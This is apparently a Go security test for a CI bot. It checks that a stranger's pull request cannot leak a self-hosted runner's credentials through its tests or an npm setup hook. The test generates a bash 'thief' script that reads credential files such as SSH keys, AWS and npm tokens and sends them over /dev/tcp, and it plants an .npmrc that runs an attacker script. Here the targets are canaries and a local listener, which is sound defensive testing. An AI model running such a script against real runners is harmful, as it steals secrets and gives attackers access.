package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/ycbot/ycbot/internal/github"
	githubtest "github.com/ycbot/ycbot/internal/testing/github"
	"github.com/ycbot/ycbot/internal/testing/variants"
)

// credentials are files of a runner's home that hold one, each beside programs that its
// search path names or where the tool has it.
var credentials = []string{
	".docker/config.json", ".docker/.token_seed", ".npmrc", ".netrc", ".aws/credentials", ".config/gcloud/application_default_credentials.json", ".kube/config", ".ssh/id_ed25519",
	".cargo/credentials.toml", ".cargo/config.toml", ".pypirc", ".fly/config.yml", ".fly/state.yml", ".pulumi/credentials.json", ".config/gh/hosts.yml", ".git-credentials", ".gnupg/private-keys-v1.d/key",
	".m2/settings.xml", ".gem/credentials", ".terraform.d/credentials.tfrc.json", ".azure/msal_token_cache.json", ".config/rclone/rclone.conf",
}

// besidePrograms are the folders of the search path below the home.
var besidePrograms = []string{".docker/bin", ".fly/bin", ".pulumi/bin", ".cargo/bin"}

// canary is the secret in a file: letters and digits that no rule for secrets knows.
func canary(file string) string {
	sum := sha256.Sum256([]byte("canary of " + file))
	return strings.NewReplacer("+", "Q", "/", "Z", "=", "X").Replace(base64.StdEncoding.EncodeToString(sum[:]))[:30]
}

// A sieve finds canaries: as they are, reversed, in base64 and hex, and in pieces of
// eight and more of each.
type sieve struct {
	eight   map[string]string // a piece of eight bytes, and what it is of
	sixteen map[string]string
}

func newSieve(files []string) sieve {
	s := sieve{eight: map[string]string{}, sixteen: map[string]string{}}
	for _, file := range files {
		secret := canary(file)
		backwards := []byte(secret)
		slices.Reverse(backwards)
		forms := map[string]string{"": secret, "reversed ": string(backwards)}
		for pad := range 3 {
			whole := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("x", pad) + secret))
			forms[fmt.Sprintf("base64 %d ", pad)] = whole[4 : len(whole)-4]
		}
		for how, form := range forms {
			for i := 0; i+8 <= len(form); i++ {
				s.eight[form[i:i+8]] = how + file
			}
		}
		for how, form := range map[string]string{"hex ": hex.EncodeToString([]byte(secret)), "reversed hex ": hex.EncodeToString(backwards)} {
			for i := 0; i+16 <= len(form); i += 2 {
				s.sixteen[form[i:i+16]] = how + file
				s.sixteen[strings.ToUpper(form[i:i+16])] = how + file
			}
		}
	}
	return s
}

// found says what is in data; blanks and new lines are looked over.
func (s sieve) found(data []byte) []string {
	var out []string
	for _, text := range [][]byte{data, bytes.Join(bytes.Fields(data), nil)} {
		for i := 0; i+8 <= len(text); i++ {
			what, ok := s.eight[string(text[i:i+8])]
			if !ok && i+16 <= len(text) {
				what, ok = s.sixteen[string(text[i:i+16])]
			}
			if ok && !slices.Contains(out, what) {
				out = append(out, what)
			}
		}
	}
	return out
}

// thief is a script that prints each file of a home, and sends it to an address.
func thief(home, address string, files []string) string {
	var b strings.Builder
	b.WriteString("#!/bin/bash\nhost=" + strings.Replace(address, ":", "/", 1) + "\nshow() { cat \"$1\"; rev \"$1\"; base64 -w0 \"$1\"; od -An -tx1 -v \"$1\"; fold -w8 \"$1\"; }\n")
	for _, file := range files {
		fmt.Fprintf(&b, "f=%q; [ -r \"$f\" ] && { show \"$f\"; show \"$f\" >/dev/tcp/$host; show \"$f\" >>stolen.txt; }\n", filepath.Join(home, file))
	}
	return b.String() + "true\n"
}

// receiver takes what is sent to it.
func receiver(t *testing.T) (address string, got func() []byte) {
	t.Helper()
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var mu sync.Mutex
	var all bytes.Buffer
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				data, _ := io.ReadAll(c) // what came until it broke off counts
				mu.Lock()
				defer mu.Unlock()
				all.Write(data)
			}()
		}
	}()
	return l.Addr().String(), func() []byte { mu.Lock(); defer mu.Unlock(); return bytes.Clone(all.Bytes()) }
}

// runnersHome is a home of a self-hosted runner with its credentials and programs. It
// is not below /tmp nor /var/tmp, of which commands have their own.
func runnersHome(t *testing.T) string {
	t.Helper()
	home, err := os.MkdirTemp("/home", "ycbot-runner-") //nolint:usetesting // t.TempDir lies in /tmp
	if err != nil {
		home, err = os.MkdirTemp(os.Getenv("HOME"), "ycbot-runner-") //nolint:usetesting // as above
	}
	if err != nil {
		t.Skipf("a folder outside of /tmp is needed: %v", err)
	}
	t.Cleanup(func() {
		if err := os.RemoveAll(home); err != nil {
			t.Error(err)
		}
	})
	for _, file := range credentials {
		write(t, filepath.Join(home, file), "token = "+canary(file)+"\n")
		if err := os.Chmod(filepath.Join(home, file), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, dir := range besidePrograms {
		tool := filepath.Join(home, dir, strings.Trim(filepath.Dir(dir), "."))
		write(t, tool, "#!/bin/sh\nexit 0\n")
		if err := os.Chmod(tool, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return home
}

// A stranger's pull request whose tests, and whose setup by npm's own settings, read the
// credentials of a self-hosted runner: none of them is in a request, a comment, a check
// run, the log, the outputs or anything that the run left, as it is or in another form.
func TestStrangerGetsNoCredentials(t *testing.T) {
	t.Parallel()
	for _, tier := range []string{"basic", "full"} {
		for _, by := range []string{"tests", "setup"} {
			variants.Run(t, tier+" by "+by, (tier == "basic") == (by == "setup"), func(t *testing.T) {
				t.Parallel()
				strangerGetsNoCredentials(t, tier, by == "setup")
			})
		}
	}
}

func strangerGetsNoCredentials(t *testing.T, tier string, bySetup bool) {
	t.Helper()
	h := newHosted(t, good)
	h.home = runnersHome(t)
	address, collected := receiver(t)
	steal := thief(h.home, address, credentials)
	manifest := `{"name": "sums", "version": "1.0.0", "scripts": {"test": "bash test.sh"}, "dependencies": {"local": "file:./local"`
	if bySetup {
		if _, err := exec.LookPath("npm"); err != nil {
			t.Skip("npm is needed")
		}
		h.Push(h.repo, githubtest.Commit{Branch: "main", Message: "a package", Files: map[string]string{".github/ycbot.yml": "version: 1\n", "package.json": manifest + "}}\n", "local/package.json": `{"name": "local", "version": "1.0.0"}` + "\n"}})
	}
	from := github.Repo{Owner: "mallory", Name: h.repo.Name}
	h.AddFork(h.repo, "mallory")
	files := map[string]string{
		"tool.sh": strings.Replace(steal, "\n", "\nprintf '%s-%s\\n' ran-by npm | tee -a stolen.txt\n", 1), "test.sh": "cat stolen.txt 2>/dev/null\n" + steal + "exit 1\n", ".npmrc": "git=./tool.sh\n",
		"package.json": manifest + `, "evil": "git+https://github.com/mallory/evil.git"}}` + "\n", "local/package.json": `{"name": "local", "version": "1.0.0"}` + "\n",
	}
	if !bySetup {
		files = map[string]string{"tool.sh": "", "test.sh": files["test.sh"]}
	}
	h.Push(from, githubtest.Commit{Branch: "evil", Message: "evil", Executable: []string{"tool.sh"}, Files: files})
	h.pull = h.OpenPull(h.repo, githubtest.Pull{Title: "Better sums", Author: "mallory", Head: "evil", From: from})
	cmd := h.command(t, "pull_request", h.PullEvent(h.repo, h.pull, "opened", "mallory", ""), map[string]string{"sandbox": tier}, "action")
	var path []string
	for _, dir := range besidePrograms {
		path = append(path, filepath.Join(h.home, dir))
	}
	cmd.Env = append(cmd.Env, "PATH="+strings.Join(path, ":")+":"+os.Getenv("PATH"), "YCBOT_HOME="+filepath.Join(h.home, ".ycbot"), "ACTIONS_RUNTIME_TOKEN="+canary("ACTIONS_RUNTIME_TOKEN"))
	s := ended(t, cmd)
	if strings.Contains(s.log, "sandbox tier "+tier+": not available") {
		t.Skipf("sandbox tier %s is not available here", tier)
	}
	// Where npm may not run the program its setup fails, and the tests need not run.
	if !bySetup && s.outputs["verdict"] != "FAIL" || s.outputs["report-dir"] == "" || len(h.posted()) == 0 {
		t.Fatalf("exit %d, %q: the stranger's test was not run\n%s", s.code, s.outputs, s.log)
	}

	sieve := newSieve(append([]string{"ACTIONS_RUNTIME_TOKEN"}, credentials...))
	if got := sieve.found([]byte("x " + canary(".npmrc")[3:14] + " y")); len(got) == 0 {
		t.Fatal("the sieve finds no piece of a canary")
	}
	look := func(where string, data []byte) {
		for _, what := range sieve.found(data) {
			t.Errorf("%s has %s", where, what)
		}
	}
	look("what was sent to the stranger", collected())
	look("the log", []byte(s.log))
	look("the summary", []byte(s.summary))
	look("the outputs", fmt.Append(nil, s.outputs))
	look("the comments", fmt.Append(nil, h.posted()))
	look("the check runs", fmt.Appendf(nil, "%+v", h.CheckRuns(h.repo)))
	for _, c := range h.Calls() {
		look("the request "+c.String(), []byte(c.Path+" "+c.Query+" "+c.Body))
	}
	for _, dir := range []string{s.outputs["report-dir"], h.temp, filepath.Join(h.home, ".ycbot")} {
		err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() {
				return err
			}
			data, err := os.ReadFile(path)
			look(path, data)
			if bytes.Contains(data, []byte("ran-by-npm")) {
				t.Errorf("%s: npm ran the stranger's program", path)
			}
			return err
		})
		if err != nil {
			t.Error(err)
		}
	}
}
